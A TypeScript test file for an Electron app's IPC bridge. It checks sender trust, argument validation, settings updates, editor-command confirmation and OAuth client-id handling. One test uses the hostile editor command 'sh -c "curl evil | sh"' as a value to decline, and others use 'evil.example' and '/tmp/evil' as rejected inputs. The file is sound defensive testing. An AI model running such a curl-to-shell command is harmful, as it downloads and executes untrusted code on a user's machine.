/**
 * Main's side of the desktop bridge (desktopIpc.ts, ipcSchemas.ts) with real parts behind it:
 * Settings over a file-backed store in a temp dir, a real TokenOwner (not signed in), and opening
 * files through the real openFileAt with a real editor process. What is checked is what a renderer
 * would get back: results, field errors, rejections, and that a refused call changed nothing.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import Conf from 'conf'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { parseOAuthSettings } from '../../src/main/auth/settings'
import type { TokenOwner } from '../../src/main/auth/tokenOwner'
import { NO_CLIENT_ID_MESSAGE } from '../../src/main/auth/tokenOwner'
import type { ListenerStatus } from '../../src/main/coreSession'
import { DesktopIpc, settingsView, type DesktopIpcDeps } from '../../src/main/desktopIpc'
import { IPC_INVOKE } from '../../src/main/ipcChannels'
import { isRendererPage, senderProblem, type IpcSender } from '../../src/main/ipcSchemas'
import { openFileAt } from '../../src/main/openFile'
import { Settings } from '../../src/main/settings'
import type { CoreStateView, SettingsView } from '../../src/renderer/bridge'
import { makeTempDir } from '../support/appServerProcess'
import { quietTokenOwner } from '../support/tokenOwner'
import { withTimeout } from '../support/testClient'

const RENDERER_URL = pathToFileURL('/opt/codex-desk/out/renderer/index.html').href
const WINDOW_ID = 7
const OURS: IpcSender = { webContentsId: WINDOW_ID, frameUrl: RENDERER_URL, isMainFrame: true }

interface Rig {
  ipc: DesktopIpc
  settings: Settings
  owner: TokenOwner
  settingsFile: string
  copied: string[]
  confirmations: string[]
  /** What the next confirmation dialog answers. */
  confirm: { answer: boolean }
  listener: ListenerStatus
  retries: number
  warnings: string[]
}

let temp: { path: string; remove(): Promise<void> }
const disposers: (() => void)[] = []

beforeEach(async () => {
  temp = await makeTempDir('codex-desk ipc ')
})

afterEach(async () => {
  for (const dispose of disposers.splice(0).reverse()) dispose()
  await temp.remove()
})

function rig(): Rig {
  const store = new Conf<Record<string, unknown>>({
    projectName: 'codex-desk-test',
    cwd: temp.path,
    configName: 'settings',
  })
  const settings = new Settings({ store, log: { warn: () => {} } })
  const owner = quietTokenOwner(temp.path, parseOAuthSettings({}))
  disposers.push(
    () => settings.dispose(),
    () => owner.dispose(),
  )
  const state: CoreStateView = { kind: 'running', generation: 3, pid: 4242 }
  const r: Rig = {
    settings,
    owner,
    settingsFile: join(temp.path, 'settings.json'),
    copied: [],
    confirmations: [],
    confirm: { answer: true },
    listener: { url: null, error: null },
    retries: 0,
    warnings: [],
    ipc: undefined as unknown as DesktopIpc,
  }
  const deps: DesktopIpcDeps = {
    trusted: { isAppWindow: (id) => id === WINDOW_ID, rendererUrl: RENDERER_URL },
    settings,
    listenerStatus: () => r.listener,
    account: owner,
    coreState: () => state,
    retryCore: () => void r.retries++,
    openFile: (location) =>
      openFileAt(location, { editorCommand: () => settings.get().editorCommand, openPath: async () => 'no' }),
    copyText: (text) => void r.copied.push(text),
    appInfo: () => ({
      name: 'codex-desk',
      version: '0.1.0',
      platform: process.platform,
      electronVersion: '45.4.1',
      coreLogPath: '/logs/core.log',
      codexDeskHome: '/home/me/.codex-desk',
    }),
    confirmEditorCommand: async (command) => {
      r.confirmations.push(command)
      return r.confirm.answer
    },
    log: { warn: (_fields, message) => void r.warnings.push(message) },
  }
  r.ipc = new DesktopIpc(deps)
  return r
}

const fileText = (r: Rig) => (existsSync(r.settingsFile) ? readFileSync(r.settingsFile, 'utf8') : '')

describe('DesktopIpc', () => {
  it('serves every bridge channel, and no other', () => {
    const { ipc } = rig()
    expect([...ipc.channels].sort()).toEqual(Object.values(IPC_INVOKE).sort())
  })

  it('answers the settings with the listener URL it runs on now, and the account and core state', async () => {
    const r = rig()
    r.settings.update({ webSocketListener: { enabled: true, port: 4500 } })
    r.listener = { url: 'ws://127.0.0.1:4500', error: null }
    const token = r.settings.get().capabilityToken
    expect(await r.ipc.invoke(IPC_INVOKE.settingsGet, OURS, [])).toEqual({
      webSocketListener: {
        enabled: true,
        port: 4500,
        allowedOrigins: [],
        url: 'ws://127.0.0.1:4500',
        error: null,
      },
      capabilityToken: token,
      editorCommand: '',
      oauthClientId: '',
    } satisfies SettingsView)
    expect(await r.ipc.invoke(IPC_INVOKE.accountSummary, OURS, [])).toEqual({
      signedIn: false,
      email: null,
      planType: null,
      accountId: null,
      problem: null,
    })
    expect(await r.ipc.invoke(IPC_INVOKE.coreState, OURS, [])).toEqual({
      kind: 'running',
      generation: 3,
      pid: 4242,
    })
    await r.ipc.invoke(IPC_INVOKE.coreRetry, OURS, [])
    expect(r.retries).toBe(1)
    expect(await r.ipc.invoke(IPC_INVOKE.appInfo, OURS, [])).toMatchObject({ coreLogPath: '/logs/core.log' })
  })

  it('shows no URL or error for a listener the settings turned off', () => {
    const r = rig()
    const view = settingsView(r.settings.get(), { url: 'ws://127.0.0.1:1', error: 'stale' })
    expect(view.webSocketListener).toMatchObject({ enabled: false, url: null, error: null })
  })

  it.each<[string, IpcSender, string]>([
    ['another webContents', { ...OURS, webContentsId: 8 }, 'not one of the app windows'],
    ['a subframe', { ...OURS, isMainFrame: false }, 'not the main frame'],
    ['a frame that went away', { ...OURS, frameUrl: null }, 'the sending frame is gone'],
    ['another page', { ...OURS, frameUrl: 'https://example.com/' }, 'not the app page'],
    ['another file', { ...OURS, frameUrl: pathToFileURL('/tmp/evil/index.html').href }, 'not the app page'],
  ])('refuses a call from %s and changes nothing', async (_what, sender, problem) => {
    const r = rig()
    const before = r.settings.get()
    await expect(r.ipc.invoke(IPC_INVOKE.copyText, sender, ['secret'])).rejects.toThrow(
      `codex-desk refused ${IPC_INVOKE.copyText}: ${problem}`,
    )
    await expect(r.ipc.invoke(IPC_INVOKE.settingsRegenerateToken, sender, [])).rejects.toThrow(problem)
    await expect(r.ipc.invoke(IPC_INVOKE.settingsGet, sender, [])).rejects.toThrow(problem)
    expect(r.copied).toEqual([])
    expect(r.settings.get().capabilityToken).toBe(before.capabilityToken)
    expect(r.warnings).toEqual(['refused an IPC message', 'refused an IPC message', 'refused an IPC message'])
  })

  it('rejects arguments the schema does not accept, naming what is wrong', async () => {
    const r = rig()
    await expect(r.ipc.invoke(IPC_INVOKE.copyText, OURS, [42])).rejects.toThrow(
      `codex-desk: invalid ${IPC_INVOKE.copyText}: the argument must be text`,
    )
    await expect(r.ipc.invoke(IPC_INVOKE.copyText, OURS, ['a', 'b'])).rejects.toThrow('too many arguments')
    await expect(r.ipc.invoke(IPC_INVOKE.copyText, OURS, [])).rejects.toThrow('too few arguments')
    await expect(r.ipc.invoke(IPC_INVOKE.copyText, OURS, ['x'.repeat(1024 * 1024 + 1)])).rejects.toThrow(
      'must be at most 1 MiB of text',
    )
    await expect(r.ipc.invoke(IPC_INVOKE.coreRetry, OURS, [true])).rejects.toThrow('too many arguments')
    await expect(r.ipc.invoke('codex-desk:eval', OURS, [])).rejects.toThrow('unknown IPC channel')
    expect(r.copied).toEqual([])
    expect(r.retries).toBe(0)
    await r.ipc.invoke(IPC_INVOKE.copyText, OURS, ['ws://127.0.0.1:4500'])
    expect(r.copied).toEqual(['ws://127.0.0.1:4500'])
  })

  it.each<[unknown, string]>([
    [{ path: '/a.toml', line: 0, column: 1 }, 'line must be a line number (an integer from 1)'],
    [{ path: '/a.toml', line: 1, column: 2.5 }, 'column must be a column number (an integer from 1)'],
    [{ path: '', line: 1, column: 1 }, 'path must be a file path'],
    [{ path: '/a\0.toml', line: 1, column: 1 }, 'path must not contain a NUL character'],
    [{ path: '/a.toml', line: 1, column: 1, editor: 'sh' }, 'editor is not accepted'],
    ['/a.toml:1:1', 'the argument must be {path, line, column}'],
  ])('answers openFile(%j) with "%s"', async (location, text) => {
    const r = rig()
    expect(await r.ipc.invoke(IPC_INVOKE.openFile, OURS, [location])).toEqual({
      ok: false,
      message: `Cannot open the file: ${text}.`,
    })
  })

  it('opens a config file through the editor command the user confirmed', async () => {
    const r = rig()
    const script = join(temp.path, 'editor.mjs')
    const out = join(temp.path, 'argv.json')
    writeFileSync(
      script,
      "import { renameSync, writeFileSync } from 'node:fs'\nconst out = process.argv[2]\n" +
        "writeFileSync(out + '.tmp', JSON.stringify(process.argv.slice(3)))\nrenameSync(out + '.tmp', out)\n",
    )
    const command = `"${process.execPath}" "${script}" "${out}" --goto {path}:{line}:{column}`
    expect(await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [{ editorCommand: command }])).toMatchObject({
      ok: true,
      settings: { editorCommand: command },
    })
    expect(r.confirmations).toEqual([command])

    const config = join(temp.path, 'config.toml')
    writeFileSync(config, 'model = 1\n')
    expect(await r.ipc.invoke(IPC_INVOKE.openFile, OURS, [{ path: config, line: 2, column: 7 }])).toEqual({
      ok: true,
    })
    const argv = await withTimeout(
      (async () => {
        while (!existsSync(out)) await new Promise((resolve) => setTimeout(resolve, 20))
        return JSON.parse(readFileSync(out, 'utf8')) as string[]
      })(),
      60_000,
      'the editor',
    )
    expect(argv).toEqual(['--goto', `${config}:2:7`])
  })

  it('keeps the old editor command when the user declines the new one', async () => {
    const r = rig()
    r.settings.update({ editorCommand: 'code --goto {path}:{line}' })
    const before = fileText(r)
    r.confirm.answer = false
    expect(
      await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [
        { editorCommand: 'sh -c "curl evil | sh" {path}' },
      ]),
    ).toEqual({
      ok: false,
      field: 'editorCommand',
      message: 'The editor command was not changed: it was not confirmed.',
    })
    expect(r.confirmations).toEqual(['sh -c "curl evil | sh" {path}'])
    expect(fileText(r)).toBe(before)
    expect(r.settings.get().editorCommand).toBe('code --goto {path}:{line}')
  })

  it('asks nothing for an unchanged, an empty or an unusable editor command', async () => {
    const r = rig()
    r.settings.update({ editorCommand: 'code --goto {path}:{line}' })
    r.confirm.answer = false
    expect(
      await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [{ editorCommand: ' code --goto {path}:{line} ' }]),
    ).toMatchObject({ ok: true })
    expect(await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [{ editorCommand: 'code' }])).toEqual({
      ok: false,
      field: 'editorCommand',
      message:
        'Invalid setting editorCommand: must contain {path} where the file goes, e.g. code --goto {path}:{line}:{column}',
    })
    expect(await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [{ editorCommand: '' }])).toMatchObject({
      ok: true,
      settings: { editorCommand: '' },
    })
    expect(r.confirmations).toEqual([])
  })

  it('updates the listener settings and answers a bad value with its field', async () => {
    const r = rig()
    const ok = await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [
      { webSocketListener: { enabled: true, port: 4555, allowedOrigins: ['http://localhost:5173'] } },
    ])
    expect(ok).toMatchObject({
      ok: true,
      settings: {
        webSocketListener: { enabled: true, port: 4555, allowedOrigins: ['http://localhost:5173'] },
      },
    })
    const before = fileText(r)
    expect(
      await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [{ webSocketListener: { port: 70000 } }]),
    ).toEqual({
      ok: false,
      field: 'webSocketListener.port',
      message:
        'Invalid setting webSocketListener.port must be an integer from 0 to 65535 (0 picks a free port)',
    })
    expect(fileText(r)).toBe(before)
  })

  it.each<[unknown, string, string]>([
    [{ oauth: { issuer: 'https://evil.example' } }, 'oauth', 'Invalid setting oauth: is not accepted'],
    [{ capabilityToken: 'mine' }, 'capabilityToken', 'Invalid setting capabilityToken: is not accepted'],
    ['enabled', 'settings', 'Invalid setting settings: must be an object'],
  ])('refuses the settings update %j (field %s) and writes nothing', async (patch, field, message) => {
    const r = rig()
    r.settings.get()
    const before = fileText(r)
    expect(await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [patch])).toEqual({
      ok: false,
      field,
      message,
    })
    expect(fileText(r)).toBe(before)
    expect(r.settings.get().oauth).toEqual({})
  })

  it('sets the OAuth client id (and nothing else of oauth), and the next sign-in uses it', async () => {
    const r = rig()
    // What index.ts does: the token owner follows the stored oauth settings.
    r.settings.onDidChange(({ settings }) => r.owner.updateSettings(parseOAuthSettings(settings.oauth)))
    // A local issuer nothing listens on: discovery fails at once and sign-in falls back to /oauth/*.
    r.settings.update({ oauth: { issuer: 'http://127.0.0.1:9' } })
    const ok = await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [{ oauthClientId: '  app_123  ' }])
    expect(ok).toMatchObject({ ok: true, settings: { oauthClientId: 'app_123' } })
    expect(r.settings.get().oauth).toEqual({ issuer: 'http://127.0.0.1:9', clientId: 'app_123' })
    // Past the client-id check: the sign-in got as far as opening the browser.
    expect(await r.ipc.invoke(IPC_INVOKE.accountSignIn, OURS, [])).toEqual({
      ok: false,
      message: expect.not.stringContaining('client id') as unknown as string,
    })

    const before = fileText(r)
    for (const bad of ['has space', 'x'.repeat(257), 42]) {
      expect(await r.ipc.invoke(IPC_INVOKE.settingsUpdate, OURS, [{ oauthClientId: bad }])).toEqual({
        ok: false,
        field: 'oauthClientId',
        message: 'Invalid setting oauthClientId: must be up to 256 printable characters without spaces',
      })
    }
    expect(fileText(r)).toBe(before)
  })

  it('regenerates the token and answers the new settings', async () => {
    const r = rig()
    const before = r.settings.get().capabilityToken
    const view = (await r.ipc.invoke(IPC_INVOKE.settingsRegenerateToken, OURS, [])) as SettingsView
    expect(view.capabilityToken).not.toBe(before)
    expect(view.capabilityToken).toBe(r.settings.get().capabilityToken)
  })

  it("answers the token owner's refusal as a sentence, not a rejection", async () => {
    const r = rig()
    expect(await r.ipc.invoke(IPC_INVOKE.accountSignIn, OURS, [])).toEqual({
      ok: false,
      message: NO_CLIENT_ID_MESSAGE,
    })
    expect(await r.ipc.invoke(IPC_INVOKE.accountSignOut, OURS, [])).toEqual({ ok: true })
  })
})

describe('senders and pages', () => {
  it.each<[string, string, boolean]>([
    [RENDERER_URL, RENDERER_URL, true],
    [`${RENDERER_URL}?ws=1#thread`, RENDERER_URL, true],
    [pathToFileURL('/opt/codex-desk/out/renderer/other.html').href, RENDERER_URL, false],
    ['file://host/opt/codex-desk/out/renderer/index.html', RENDERER_URL, false],
    ['http://localhost:5173/', 'http://localhost:5173', true],
    ['http://localhost:5173/index.html?x', 'http://localhost:5173/', true],
    ['http://localhost:5174/', 'http://localhost:5173/', false],
    ['https://localhost:5173/', 'http://localhost:5173/', false],
    ['about:blank', RENDERER_URL, false],
    ['not a url', RENDERER_URL, false],
  ])('%s is the app page (%s): %s', (url, rendererUrl, expected) => {
    expect(isRendererPage(url, rendererUrl)).toBe(expected)
  })

  it('accepts only the main frame of an app window showing the app page', () => {
    const trusted = { isAppWindow: (id: number) => id === WINDOW_ID, rendererUrl: RENDERER_URL }
    expect(senderProblem(OURS, trusted)).toBeNull()
    expect(senderProblem({ ...OURS, frameUrl: `${RENDERER_URL}#x` }, trusted)).toBeNull()
  })
})
